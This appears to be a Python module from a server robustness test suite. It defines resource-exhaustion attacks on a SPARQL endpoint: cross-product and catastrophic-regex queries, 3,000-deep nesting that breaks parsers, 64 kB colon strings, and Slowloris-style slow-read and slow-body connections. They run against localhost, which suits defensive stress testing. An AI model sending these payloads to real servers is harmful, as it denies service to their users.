"""What the attacks send: queries and requests that cost a server far more than the client who sends them."""

import json
import random
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from urllib.parse import quote

SPARQL_JSON = "application/sparql-results+json"
_CROSS = "?a ?b ?c . ?d ?e ?f . ?g ?h ?i"
_DOUBLED = "\n".join(f"BIND(REPLACE(?t{i}, 'a', 'aaaaaaaaaa') AS ?t{i + 1})" for i in range(12))
# Runs too long or takes too much memory; every engine survives the parsing.
RUNAWAY = {
    "count of a cross product": f"SELECT (COUNT(*) AS ?n) WHERE {{ {_CROSS} }}",
    "cross product as rows": f"SELECT * WHERE {{ {_CROSS} }}",
    "sorted cross product": f"SELECT ?a WHERE {{ {_CROSS} }} ORDER BY ?c ?f ?i LIMIT 1",
    "distinct cross product": f"SELECT DISTINCT * WHERE {{ {_CROSS} }}",
    "text that doubles": f"SELECT ?t12 WHERE {{ BIND('a' AS ?t0) {_DOUBLED} }}",
    "path between all pairs": "SELECT (COUNT(*) AS ?n) WHERE { ?x (!<urn:a>|^!<urn:a>)* ?y . ?y ?p ?z . ?z ?q ?w }",
    "regular expression": "SELECT ?c WHERE { ?a ?b ?c FILTER(REGEX(STR(?c), '((((a{0,50}){0,50}){0,50}){0,50})')) }",
    "joined text": f"SELECT (GROUP_CONCAT(STR(?c)) AS ?t) WHERE {{ {_CROSS} }}",
}
# Breaks the parser or the planner: the stack, or minutes before the first row.
NESTED = {
    "functions 3,000 deep": f"SELECT * WHERE {{ BIND({'STR(' * 3000}1{')' * 3000} AS ?x) }}",
    "groups 3,000 deep": f"SELECT * WHERE {'{' * 3000}{'}' * 3000}",
    "lists 200 deep": f"SELECT * WHERE {{ ?s ?p {'(' * 200}1{')' * 200} }}",
    "300 optionals": f"SELECT * WHERE {{ {' '.join(f'OPTIONAL {{ ?s ?p{i} ?o{i} }}' for i in range(300))} }}",
    "1,000 patterns": f"SELECT * WHERE {{ {' . '.join(f'?v{i} ?p ?v{i + 1}' for i in range(1000))} }}",
}


def _colons(number: int) -> str:
    return f"PREFIX a:<x:>SELECT*{{?s ?p a:service{':' * number}}}"


# As long as a query may be, and just below the length from which govplan 0.1 read one text at a time.
LONG_TEXTS = {"65,000 colons": _colons(65_000), "3,930 colons": _colons(3_930)}
# Terms of every kind under one variable, for which an engine needs a total order.
ORDER = {
    "everything by its value": "SELECT * {?s ?p ?o} ORDER BY DESC(?o)",
    "literals by their value": "SELECT ?o {?s ?p ?o FILTER(isLiteral(?o))} ORDER BY ?o LIMIT 10",
}
_WIDE = "SELECT ?s ?p ?o {{ ?s ?p ?o . ?x a ?y }} OFFSET {0} LIMIT 100000"
_BATCH = 100
_WORDS = [
    a + b + c for a in ("ba", "de", "fi", "go", "lu") for b in ("ma", "ne", "pi", "ro") for c in ("su", "ta", "ve")
]


@dataclass(frozen=True, slots=True)
class Request:
    """One request; its client leaves after `leaves` seconds, or stays until it is answered (0)."""

    method: str
    target: str
    headers: Mapping[str, str]
    body: bytes | None = None
    leaves: float = 0.0


@dataclass(frozen=True, slots=True)
class Slowly:
    """A request that takes its time: `head` at once, a byte of `body` a beat, `reads` bytes of the answer a beat."""

    head: bytes
    body: bytes = b""
    reads: int = 0


@dataclass(frozen=True, slots=True)
class Burst:
    """An attack of `clients` who send one request after the other with `pause` seconds between, `most` in all.

    `request` returns the request of a number; `path` is where the server answers queries. With `light`, sixteen
    clients ask small questions beside it, as many as are answered; else the two canaries ask at their own pace.
    """

    what: str
    clients: int
    most: int
    request: Callable[[int, str], Request]
    pause: float = 0.0
    light: bool = False


@dataclass(frozen=True, slots=True)
class Slow:
    """An attack of `clients` who hold a connection each and come again when it is closed, `most` in all.

    `request` returns the request of a number; `dump` is the target of the whole dataset.
    """

    what: str
    clients: int
    most: int
    request: Callable[[int, str], Slowly]
    light: bool = False


def _texts(pack: Mapping[str, str]) -> Callable[[int, str], Request]:
    """Return the queries of a pack in turn."""
    queries = list(pack.values())

    def request(number: int, path: str) -> Request:
        headers = {"Accept": SPARQL_JSON, "Content-Type": "application/sparql-query"}
        return Request("POST", path, headers, queries[number % len(queries)].encode())

    return request


def _order(number: int, path: str) -> Request:
    """Return the same query twice, then others: with a text that never comes again, and of literals alone."""
    every, literals = ORDER.values()
    query = (every, every, f"PREFIX n:<urn:bench:{number}> {every}", literals)[number % 4]
    return _texts({"": query})(0, path)


def reconciliation(number: int, path: str) -> Request:
    """Return a batch of 100 names of 60 parts each, never the same; nine of ten clients leave after half a second."""
    names = random.Random(number)
    batch = {f"q{query}": {"query": "/".join(_parts(names))} for query in range(_BATCH)}
    headers = {"Accept": "application/json", "Content-Type": "application/x-www-form-urlencoded"}
    return Request("POST", "/reconcile", headers, f"queries={json.dumps(batch)}".encode(), 0.5 if number % 10 else 0.0)


def _parts(names: random.Random) -> list[str]:
    """Return the parts of one name, which is just as long as a name may be."""
    return names.choices(_WORDS, k=36) + [word[:5] for word in names.choices(_WORDS, k=24)]


def wide_page(number: int, path: str) -> Request:
    """Return a query of 100,000 rows as one page, never the same; one of three clients leaves after a second."""
    target = f"{path}?format=html&page=all&query={quote(_WIDE.format(number))}"
    return Request("GET", target, {"Accept": "text/html"}, None, 0.0 if number % 3 else 1.0)


def reader(number: int, dump: str) -> Slowly:
    """Return a request for the dump of the dataset; half of the clients never read, half read a kilobyte a second."""
    head = f"GET {dump} HTTP/1.1\r\nHost: 127.0.0.1\r\nAccept: {SPARQL_JSON}, */*;q=0.5\r\n\r\n"
    return Slowly(head.encode(), reads=256 if number % 2 else 0)


def answer_reader(number: int, dump: str) -> Slowly:
    """Return a query for some 1.5 MB, always the same, so that a cache has the answer; it is read as the dump is."""
    return reader(number, f"/sparql?query={quote('SELECT * { ?s ?p ?o } LIMIT 6000')}")


def slow_body(number: int, dump: str) -> Slowly:
    """Return a body of a thousand bytes that comes byte by byte, by turns a query and a batch of names."""
    path, kind, begin = (
        ("/sparql", "application/sparql-query", "SELECT * { ?s ?p ?o } #"),
        ("/reconcile", "application/x-www-form-urlencoded", 'queries={"q0": {"query": "'),
    )[number % 2]
    head = f"POST {path} HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: {kind}\r\nContent-Length: 1000\r\n\r\n"
    return Slowly(head.encode(), begin.ljust(1000, "a").encode(), reads=4096)


ATTACKS: dict[str, Burst | Slow] = {
    # For comparison: on a busy machine this shows how busy.
    "peace": Burst("no attack", 0, 0, _order),
    "runaway": Burst("short, legal and endless queries", 4, 5000, _texts(RUNAWAY), light=True),
    "nested": Burst("queries that break parsers and planners", 4, 5000, _texts(NESTED), light=True),
    "slow-readers": Slow("320 clients ask for the whole dataset and read little or nothing of it", 320, 3000, reader),
    "unread-answers": Slow("320 clients ask for one answer of 1.5 MB and read it no faster", 320, 3000, answer_reader),
    "slow-bodies": Slow("64 clients send a body byte by byte", 64, 2000, slow_body),
    "reconciliation": Burst(
        "batches of 100 names of 60 parts; nine of ten clients leave after half a second", 12, 320, reconciliation
    ),
    "wide-pages": Burst(
        "24 clients want 100,000 rows as a page; one of three leaves after a second", 24, 400, wide_page
    ),
    "long-texts": Burst("queries of 64 kB and 4 kB that are all colons", 8, 2000, _texts(LONG_TEXTS), pause=0.1),
    "order": Burst("two clients sort terms of every kind", 2, 2000, _order),
}
